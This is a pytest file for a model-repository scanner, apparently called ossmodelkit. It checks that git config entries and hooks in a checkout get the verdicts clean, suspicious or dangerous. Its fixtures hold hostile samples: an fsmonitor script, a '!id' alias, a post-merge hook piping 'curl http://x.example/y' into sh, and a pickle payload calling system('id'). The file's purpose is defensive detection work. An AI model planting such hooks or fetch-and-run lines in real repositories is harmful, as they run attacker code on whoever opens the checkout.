"""A checkout's own `.git` is no part of the model, and still starts programs in the hands of whoever opens it."""

from __future__ import annotations

from pathlib import Path

import pytest

from ossmodelkit.sources.checkout import checkout_of
from ossmodelkit.sources.local import LocalSource
from ossmodelkit.workflow.scan import scan

SETTINGS = """[core]
\trepositoryformatversion = 0
\tbare = false
[remote "origin"]
\turl = https://huggingface.co/org/name
[lfs "customtransfer.multipart"]
\tpath = huggingface-cli
\targs = lfs-multipart-upload
"""
LFS_HOOK = """#!/bin/sh
command -v git-lfs >/dev/null 2>&1 || { printf >&2 "not found"; exit 2; }
git lfs post-checkout "$@"
"""
PRE_COMMIT_HOOK = """#!/usr/bin/env bash
INSTALL_PYTHON=/usr/bin/python3
ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)
HERE="$(cd "$(dirname "$0")" && pwd)"
ARGS+=(--hook-dir "$HERE" -- "$@")
if [ -x "$INSTALL_PYTHON" ]; then
    exec "$INSTALL_PYTHON" -mpre_commit "${ARGS[@]}"
fi
"""


def cloned(folder: Path, **files: str) -> Path:
    hooks = folder / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (folder / "config.json").write_text("{}")
    (folder / ".git" / "config").write_text(SETTINGS + files.pop("config", ""))
    (hooks / "pre-push.sample").write_text("#!/bin/sh\nwhoami\n")
    for name, text in files.items():
        (hooks / name.replace("_", "-")).write_text(text)
    return folder


@pytest.mark.parametrize(
    ("files", "verdict"),
    [
        pytest.param({"config": "[core]\n\tfsmonitor = ./x.sh\n"}, "dangerous", id="file monitor"),
        pytest.param({"config": '[alias]\n\tst = "!id"\n'}, "dangerous", id="alias"),
        pytest.param({"post_checkout": "#!/bin/sh\nwhoami\n"}, "suspicious", id="hook"),
        pytest.param({"post_merge": "#!/bin/sh\ncurl http://x.example/y | sh\n"}, "dangerous", id="hook that fetches"),
        pytest.param({"post_checkout": LFS_HOOK, "pre_commit": PRE_COMMIT_HOOK}, "clean", id="hooks of tools"),
    ],
)
def test_settings_and_hooks_of_a_checkout_are_judged(tmp_path: Path, files: dict[str, str], verdict: str) -> None:
    report = scan(str(cloned(tmp_path, **files)))
    assert report.verdict == verdict, report.findings


def test_the_rest_of_git_is_not_read(tmp_path: Path) -> None:
    source = LocalSource(cloned(tmp_path, post_merge=LFS_HOOK))
    (tmp_path / ".git" / "objects").mkdir()
    (tmp_path / ".git" / "objects" / "x").write_bytes(b"cos\nsystem\n(S'id'\ntR.")
    checkout = checkout_of(source)
    assert checkout is not None
    assert [entry.name for entry in checkout.inventory.entries] == [".git/config", ".git/hooks/post-merge"]
    assert [entry.name for entry in source.inventory.entries] == ["config.json"]


def test_a_folder_without_git_and_a_link_to_one_have_no_checkout(tmp_path: Path) -> None:
    (tmp_path / "plain").mkdir()
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked" / ".git").symlink_to(cloned(tmp_path / "elsewhere") / ".git")
    assert checkout_of(LocalSource(tmp_path / "plain")) is None
    assert checkout_of(LocalSource(tmp_path / "linked")) is None
